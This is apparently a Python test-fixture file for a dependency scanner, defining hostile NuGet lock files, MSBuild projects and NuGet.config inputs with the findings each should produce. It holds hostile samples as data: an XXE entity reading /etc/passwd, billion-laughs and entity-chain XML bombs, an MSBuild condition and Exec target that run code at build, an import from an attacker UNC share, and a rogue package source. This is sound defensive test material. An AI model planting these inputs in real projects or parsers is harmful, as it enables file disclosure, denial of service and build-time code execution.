"""Rows about packages.lock.json, project files and the MSBuild files that they import."""

import json
from typing import Any

from tests.hostile.case import PERMISSIVE, Row
from tests.hostile.lay import data, files, text

PATH = "app/packages.lock.json"
HIDDEN = "s3cr3t"
HASH = "A" * 86 + "=="


def entry(**fields: Any) -> dict[str, Any]:
    """A direct package that nothing is wrong with, but for `fields`."""
    return {"type": "Direct", "requested": "[13.0.3, )", "resolved": "13.0.3", "contentHash": HASH, **fields}


def lock(packages: dict[str, Any], version: object = 1) -> str:
    """One line an entry: the first package on line 5."""
    body = ",\n".join(f"      {json.dumps(name)}: {json.dumps(value)}" for name, value in packages.items())
    return f'{{\n  "version": {json.dumps(version)},\n  "dependencies": {{\n    "net8.0": {{\n{body}\n    }}\n  }}\n}}\n'


NEWTONSOFT = ("pkg:nuget/Newtonsoft.Json@13.0.3",)
GOOD = {"Newtonsoft.Json": entry()}
PROJECT = """<Project Sdk="Microsoft.NET.Sdk">
  <UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="x.dll" />
  <ItemGroup>
    <PackageReference Include="Evil" Version="1.0" Condition="$([System.IO.File]::WriteAllText('canary','y'))" />
  </ItemGroup>
  <Target Name="x" BeforeTargets="Build"><Exec Command="touch canary" /></Target>
</Project>
"""
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY a{n} "{("&a%s;" % (n - 1 or "")) * 10}">' for n in range(1, 10))
    + "]><Project>&a9;</Project>"
)
LINKS = "".join(f'<!ENTITY a{n} "&a{n - 1};">' for n in range(1, 200_000))
CHAIN = f'<!DOCTYPE l [<!ENTITY a0 "x">{LINKS}]><Project>&a199999;</Project>'
XXE = """<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<Project><ItemGroup><PackageVersion Include="&x;" /></ItemGroup></Project>"""


def importing(path: str) -> str:
    """A project or shared file that imports another one on line 2 and asks for one package."""
    return f"""<Project>
<Import Project="{path}" />
<ItemGroup><PackageReference Include="A" Version="1.0" /></ItemGroup>
</Project>
"""


def properties(text: str) -> str:
    """A project with these properties, and one package whose version is made of them."""
    return f"""<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><A>1</A>{text}</PropertyGroup>
<ItemGroup><PackageReference Include="B" Version="$(A)" /></ItemGroup></Project>
"""


EVIL = """<configuration><packageSources>
<add key="x" value="http://evil.example.test/v3/index.json" />
</packageSources></configuration>
"""
CONFIG = f"""<configuration><packageSourceCredentials><feed>
<add key="ClearTextPassword" value="{HIDDEN}" /></feed></packageSourceCredentials></configuration>
"""

ROWS = (
    Row(
        "NUG-msbuild-condition",
        files({"app/App.csproj": PROJECT}),
        at="app/App.csproj:4",
        says=("E-CONDITION", "is a property function, which is not run"),
        refersto=("pkg:nuget/Evil@1.0.0",),
        note="listed under its condition; the run is incomplete because no lock tells the rest",
    ),
    Row(
        "NUG-msbuild-condition: beside a lock",
        files({"app/App.csproj": PROJECT, PATH: lock(GOOD)}),
        exit=0,
        at="app/App.csproj:4",
        says=("E-CONDITION",),
        keeps=NEWTONSOFT,
    ),
    Row(
        "NUG-msbuild-import",
        files({"app/App.csproj": importing("\\\\attacker\\share\\x.props"), PATH: lock(GOOD)}),
        at="app/App.csproj:2",
        says=("E-OUTSIDE", "is not read"),
        keeps=NEWTONSOFT,
    ),
    Row(
        "NUG-msbuild-import: no lock",
        files({"app/App.csproj": importing("../../../x.props")}),
        at="app/App.csproj:2",
        says=("E-OUTSIDE",),
        refersto=("pkg:nuget/A@1.0.0",),
    ),
    Row(
        "NUG-msbuild-import: deep",
        files({"app/App.csproj": importing("0.props"), **{f"app/{n}.props": importing(f"{n + 1}.props") for n in range(50)}}),
        at="app/31.props:2",
        says=("E-DEPTH", "import-depth"),
    ),
    Row(
        "ours: imports in a circle",
        files({"app/App.csproj": importing("a.props"), "app/a.props": importing("b.props"), "app/b.props": importing("a.props")}),
        at="app/b.props:2",
        says=("E-INCLUDE-LOOP",),
        refersto=("pkg:nuget/A@1.0.0",),
    ),
    Row(
        "ours: properties that double",
        files({"app/App.csproj": properties("<A>$(A)$(A)</A>" * 5000)}),
        at="app/App.csproj",
        says=("E-VERSION", "property-chars"),
        seconds=2,
    ),
    Row(
        "ours: properties that unfold",
        files({"app/App.csproj": properties(f"<A>{'a' * 60_000}</A>" + "<B>$(A)</B>" * 100_000)}),
        at="app/App.csproj",
        says=("E-EXPANSION", "expanded-chars"),
        seconds=2,
    ),
    Row(
        "ours: more target frameworks than anybody has",
        files(
            {"app/App.csproj": properties(f"<TargetFrameworks>{';'.join(f'net{n}' for n in range(10_000))}</TargetFrameworks>")}
        ),
        at="app/App.csproj",
        says=("E-FRAMEWORKS", "target-frameworks"),
    ),
    Row(
        "ours: a project file in UTF-16",
        data("app/App.csproj", PROJECT.encode("utf-16")),
        at="app/App.csproj:4",
        says=("E-CONDITION",),
        refersto=("pkg:nuget/Evil@1.0.0",),
    ),
    Row(
        "NUG-xml-entities-1: in a project",
        files({"app/App.csproj": LAUGHS}),
        at="app/App.csproj:1",
        says=("E-DOCTYPE",),
        seconds=0.05,
    ),
    Row(
        "NUG-xml-entities-2: in a project",
        files({"app/App.csproj": CHAIN}),
        at="app/App.csproj:1",
        says=("E-DOCTYPE",),
        seconds=0.1,
    ),
    Row(
        "NUG-xxe",
        files({"app/Directory.Packages.props": XXE, "app/App.csproj": importing("a.props"), "app/a.props": "<Project/>"}),
        at="app/Directory.Packages.props:1",
        says=("E-DOCTYPE",),
        hides=("root:x:",),
        refersto=("pkg:nuget/A@1.0.0",),
    ),
    Row(
        "NUG-xml-depth",
        files({"app/App.csproj": "<a>" * 1_000_000}),
        at="app/App.csproj:1",
        says=("E-DEPTH", "128 levels (xml-depth)"),
        seconds=0.2,
    ),
    Row(
        "ours: attributes without number",
        files({"app/App.csproj": "<Project " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"}),
        at="app/App.csproj:1",
        says=("E-ATTRIBUTES", "xml-attributes"),
        seconds=1,
    ),
    Row(
        "NUG-version-text",
        text(PATH, lock({"Long": entry(resolved="9" * 5000), **GOOD})),
        at=f"{PATH}:5",
        keeps=NEWTONSOFT,
    ),
    Row(
        "NUG-version-text: no version",
        text(PATH, lock({"Floating": entry(resolved="1.*"), "Variable": entry(resolved="$(V)"), **GOOD})),
        at=PATH,
        keeps=NEWTONSOFT,
    ),
    Row(
        "NUG-case",
        text(PATH, lock({"Newtonsoft.JSON": entry()})),
        exit=1,
        finds=("Newtonsoft.JSON",),
        policy=PERMISSIVE + "packages:\n  default: allow\n  denied:\n    - {match: pkg:nuget/newtonsoft.json, reason: a test}\n",
    ),
    Row(
        "NUG-nuget-config-1",
        files({"nuget.config": CONFIG, "app/NuGet.Config": CONFIG, PATH: lock(GOOD)}),
        exit=0,
        hides=(HIDDEN,),
        keeps=NEWTONSOFT,
    ),
    Row(
        "NUG-nuget-config-2",
        files({"NuGet.config": EVIL, PATH: lock(GOOD)}),
        exit=1,
        finds=("Newtonsoft.Json", "evil.example.test"),
        policy=PERMISSIVE + "sources: {nuget: [default]}\n",
        keeps=NEWTONSOFT,
    ),
    Row(
        "ours: a NuGet.config with a document type",
        files({"NuGet.config": XXE, PATH: lock(GOOD)}),
        at="NuGet.config:1",
        says=("E-DOCTYPE",),
        hides=("root:x:",),
        keeps=NEWTONSOFT,
    ),
    Row("ours: an unknown lock version", text(PATH, lock(GOOD, 99)), at=PATH, says=("99",)),
    Row("ours: a lock version that is a text", text(PATH, lock(GOOD, "1")), at=PATH),
    Row("ours: a NuGet lock that is an array", text(PATH, "[]"), at=PATH),
    Row("ours: a framework that is an array", text(PATH, '{"version": 1, "dependencies": {"net8.0": []}}'), at=PATH),
    Row(
        "ours: a NuGet entry of another type",
        text(PATH, lock({"Odd": "1.0.0", **GOOD})),
        at=PATH,
        says=("Odd",),
        keeps=NEWTONSOFT,
    ),
    Row(
        "ours: a NuGet field of another type",
        text(PATH, lock({"Odd": entry(contentHash=7, dependencies=["x"]), **GOOD})),
        at=f"{PATH}:5",
        keeps=(*NEWTONSOFT, "pkg:nuget/Odd@13.0.3"),
    ),
)
